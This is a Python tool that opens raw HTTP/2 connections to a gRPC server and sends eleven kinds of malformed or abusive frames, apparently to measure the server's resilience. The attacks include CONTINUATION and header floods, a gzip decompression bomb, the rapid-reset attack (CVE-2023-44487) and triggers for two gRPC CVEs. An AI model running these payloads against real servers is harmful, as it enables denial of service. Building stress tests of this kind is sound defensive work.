"""A peer that attacks a server of gRPC over plain HTTP/2, with frames that no library sends.

Takes one JSON argument, {"address": "127.0.0.1:2222", "attack": NAME, "size": N}, and prints one
line of JSON: `sent` bytes, `closed` where the server ended the connection, `status` where it
answered the call, `seconds` until all that was sent had been dealt with. What N counts is said at
each attack. The peer acknowledges the server's SETTINGS only where that helps it.
"""

from __future__ import annotations

import json
import re
import select
import socket
import struct
import sys
import time
import zlib
from collections.abc import Callable

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
WINDOW_UPDATE, CONTINUATION = 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
UNKNOWN = 0xFA  # a frame type that HTTP/2 says to skip
INITIAL_WINDOW_SIZE = 4  # of the SETTINGS
FRAME = 16384
FIRST_WINDOW = 65535
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
#: A call that any TensorFlow server takes, with a small request.
METHOD = b"/tensorflow.WorkerService/GetStatus"
_PATIENCE_S = 120.0


class Closed(Exception):
    """The server has ended the connection."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def integer(value: int, bits: int, first: int = 0) -> bytes:
    """An integer of HPACK with a prefix of so many bits, in a byte that begins with `first`."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    value -= most
    digits = [first | most]
    while value >= 128:
        digits.append(value & 127 | 128)
        value >>= 7
    return bytes([*digits, value])


def literal(name: bytes, value: bytes) -> bytes:
    """A header as it is: no table, no Huffman code."""
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(encoding: bytes = b"identity") -> bytes:
    """The headers of a call."""
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": METHOD,
        b":authority": b"hostile",
        b"te": b"trailers",
        b"content-type": b"application/grpc",
        b"grpc-encoding": encoding,
    }
    return b"".join(literal(name, value) for name, value in fields.items())


class Peer:
    """One connection; what the server says is read while the peer waits to send."""

    def __init__(self, address: str, acknowledge: bool = False) -> None:
        host, _, port = address.rpartition(":")
        self.sent = 0
        self.status: int | None = None
        self.ended: set[int] = set()
        self._socket = socket.create_connection((host, int(port)), timeout=10)
        self._socket.setblocking(False)
        self._heard = b""
        self._first_window = FIRST_WINDOW
        self._given = {0: FIRST_WINDOW}
        self._pings = 0
        self._greeted = False
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        if acknowledge:
            while not self._greeted:
                self._wait(writing=False)
            self.send(frame(SETTINGS, ACK, 0))

    def close(self) -> None:
        """Ends the connection."""
        self._socket.close()

    def send(self, data: bytes) -> None:
        """Sends all of `data`. Raises Closed."""
        rest = memoryview(data)
        while rest:
            self._wait(writing=True)
            try:
                count = self._socket.send(rest[: 1 << 20])
            except BlockingIOError:
                continue
            except OSError as error:
                raise Closed from error
            self.sent += count
            rest = rest[count:]

    def data(self, stream: int, payload: bytes, piece: int = FRAME) -> None:
        """Sends DATA frames of `piece` bytes, as fast as the server's windows allow."""
        rest = memoryview(payload)
        while rest:
            allowed = self._window(stream)
            if allowed < 1:
                self._wait(writing=False)
                continue
            now, rest = rest[:allowed], rest[allowed:]
            parts = (bytes(now[at : at + piece]) for at in range(0, len(now), piece))
            self.send(b"".join(frame(DATA, 0, stream, part) for part in parts))
            for key in (0, stream):
                self._given[key] = self._given.get(key, 0) - len(now)

    def settle(self) -> None:
        """Returns once the server has dealt with all that was sent. Raises Closed."""
        self._pings += 1
        wanted = self._pings
        self.send(frame(PING, 0, 0, struct.pack(">Q", wanted)))
        while self._pings == wanted:
            self._wait(writing=False)

    def answer(self, stream: int) -> None:
        """Returns once the server has ended the stream. Raises Closed."""
        while stream not in self.ended:
            self._wait(writing=False)

    def _window(self, stream: int) -> int:
        return min(self._given[0], self._first_window + self._given.get(stream, 0))

    def _wait(self, writing: bool) -> None:
        able, _, _ = ready = select.select(
            [self._socket], [self._socket] if writing else [], [], _PATIENCE_S
        )
        if not any(ready):
            raise TimeoutError(f"the server neither reads nor says anything for {_PATIENCE_S} s")
        if able:
            try:
                more = self._socket.recv(1 << 16)
            except OSError as error:
                raise Closed from error
            if not more:
                raise Closed
            self._heard += more
            self._hear()

    def _hear(self) -> None:
        while len(self._heard) >= 9:
            size = int.from_bytes(self._heard[:3], "big")
            if len(self._heard) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._heard[3:9])
            payload, self._heard = self._heard[9 : 9 + size], self._heard[9 + size :]
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, size, 6):
                    name, value = struct.unpack(">HI", payload[at : at + 6])
                    if name == INITIAL_WINDOW_SIZE:
                        self._first_window = value
                self._greeted = True
            elif kind == WINDOW_UPDATE:
                more = struct.unpack(">I", payload)[0]
                self._given[stream] = self._given.get(stream, 0) + more
            elif kind == PING and flags & ACK:
                self._pings += 1
            elif kind in (HEADERS, RST_STREAM):
                # gRPC writes this header as it is, the first time.
                found = re.search(rb"grpc-status[\x01\x02](\d+)", payload)
                if found:
                    self.status = int(found[1])
                if kind == RST_STREAM or flags & END_STREAM:
                    self.ended.add(stream)


def control(peer: Peer, size: int) -> None:
    """`size` bytes of frames that a server reads and skips: what bytes cost at the least."""
    whole = frame(UNKNOWN, 0, 0, bytes(FRAME))
    for _ in range(max(size // len(whole), 1)):
        peer.send(whole)
    peer.settle()


def header(peer: Peer, size: int) -> None:
    """One header with a value of `size` bytes."""
    peer.send(frame(HEADERS, 0, 1, request() + b"\0" + integer(1, 7) + b"x" + integer(size, 7)))
    for start in range(0, size, FRAME):
        last = END_HEADERS if start + FRAME >= size else 0
        peer.send(frame(CONTINUATION, last, 1, b"y" * min(FRAME, size - start)))
    peer.settle()


def padding(peer: Peer, size: int) -> None:
    """The length of a header's name, 127, followed by `size` zero digits."""
    zeros = b"\x80" * FRAME
    peer.send(frame(HEADERS, 0, 1, request() + b"\0\x7f"))
    for start in range(0, size, FRAME):
        peer.send(frame(CONTINUATION, 0, 1, zeros[: size - start]))
    rest = b"\0" + b"x" * 127 + integer(0, 7)
    peer.send(frame(CONTINUATION, END_HEADERS, 1, rest))
    peer.settle()


def continuation(peer: Peer, size: int) -> None:
    """`size` bytes of small headers, 2,048 in each CONTINUATION frame."""
    block = literal(b"xyz", b"ab") * (FRAME // 8)
    peer.send(frame(HEADERS, 0, 1, request()))
    for start in range(0, size, FRAME):
        last = END_HEADERS if start + FRAME >= size else 0
        peer.send(frame(CONTINUATION, last, 1, block))
    peer.settle()


def pieces(peer: Peer, size: int) -> None:
    """An honest call, with `size` bytes of headers in frames of one byte, that must be served."""
    coded = bytes.fromhex("8cf1e3c2e5f23a6ba0ab90f4ff")  # www.example.com (RFC 7541, C.4.1)
    padded = b"\0" + b"\x7f\x80\x80\x80\0" + b"n" * 127 + integer(0, 7)
    block = request() + literal(b"x-bin", b"AAAA") + b"\0" + integer(1, 7) + b"h" + coded + padded
    block += literal(b"v", b"v" * (size - len(block) - 5))
    peer.send(frame(HEADERS, 0, 1))
    peer.send(b"".join(frame(CONTINUATION, 0, 1, bytes([byte])) for byte in block))
    peer.send(frame(CONTINUATION, END_HEADERS, 1) + frame(DATA, END_STREAM, 1, bytes(5)))
    peer.answer(1)


def bomb(peer: Peer, size: int) -> None:
    """A compressed message that inflates to `size` bytes, in whole MiB."""
    zeros = bytes(1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)  # may be repeated
    count, check = size // len(zeros), 0
    for _ in range(count):
        check = zlib.crc32(zeros, check)
    end = packer.flush() + struct.pack("<II", check, count * len(zeros))
    packed = bytes.fromhex("1f8b0800000000000003") + block * count + end
    peer.send(frame(HEADERS, END_HEADERS, 1, request(b"gzip")))
    peer.data(1, b"\1" + struct.pack(">I", len(packed)) + packed)
    peer.send(frame(DATA, END_STREAM, 1))
    peer.answer(1)
    peer.settle()


def fragments(peer: Peer, size: int) -> None:
    """`size` DATA frames of one byte, all of one message, which then lacks its last byte."""
    peer.send(frame(HEADERS, END_HEADERS, 1, request()))
    peer.data(1, b"\0" + struct.pack(">I", size + 1))
    peer.data(1, bytes(size), piece=1)
    peer.settle()


def resets(peer: Peer, size: int) -> None:
    """`size` calls, each given up as soon as it is begun (CVE-2023-44487)."""
    block = request()
    for start in range(0, size, 500):
        streams = range(2 * start + 1, 2 * min(start + 500, size) + 1, 2)
        peer.send(
            b"".join(
                frame(HEADERS, END_HEADERS, stream, block)
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                for stream in streams
            )
        )
    peer.settle()


def announced(peer: Peer, size: int) -> None:
    """A GOAWAY that announces `size` bytes, which is more than a frame may have."""
    peer.send(struct.pack(">I", size)[1:] + struct.pack(">BBI", GOAWAY, 0, 0) + bytes(8))
    peer.settle()


def words(peer: Peer, size: int) -> None:
    """Headers that gRPC has no encoding for, then `size` bytes more (CVE-2023-1428)."""
    odd = ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"))
    block = b"".join(literal(name, value) for name, value in (*odd, (b"y", bytes(1000))))
    more = literal(b"z", b"z" * size)
    for stream in range(1, 2 * len(odd), 2):
        peer.send(frame(HEADERS, 0, stream, block) + frame(CONTINUATION, END_HEADERS, stream, more))
    peer.settle()


def base64(peer: Peer, size: int) -> None:
    """`size` calls with a binary header that is none (CVE-2023-32732)."""
    for stream in range(1, 2 * size, 2):
        block = request() + literal(b"x-bin", b"!!!!")
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
    peer.settle()


ATTACKS: dict[str, Callable[[Peer, int], None]] = {
    "control": control,
    "header": header,
    "padding": padding,
    "continuation": continuation,
    "pieces": pieces,
    "bomb": bomb,
    "fragments": fragments,
    "resets": resets,
    "announced": announced,
    "words": words,
    "base64": base64,
}
_ACKNOWLEDGE = ("bomb", "fragments", "words")


def attack(address: str, name: str, size: int) -> dict[str, object]:
    """What came of one attack; see the module."""
    peer = Peer(address, acknowledge=name in _ACKNOWLEDGE)
    began = time.monotonic()
    closed = False
    try:
        ATTACKS[name](peer, size)
    except Closed:
        closed = True
    seconds = time.monotonic() - began
    peer.close()
    return {"sent": peer.sent, "closed": closed, "status": peer.status, "seconds": seconds}


def main() -> None:
    settings = json.loads(sys.argv[1])
    print(json.dumps(attack(settings["address"], settings["attack"], settings["size"])), flush=True)


if __name__ == "__main__":
    main()
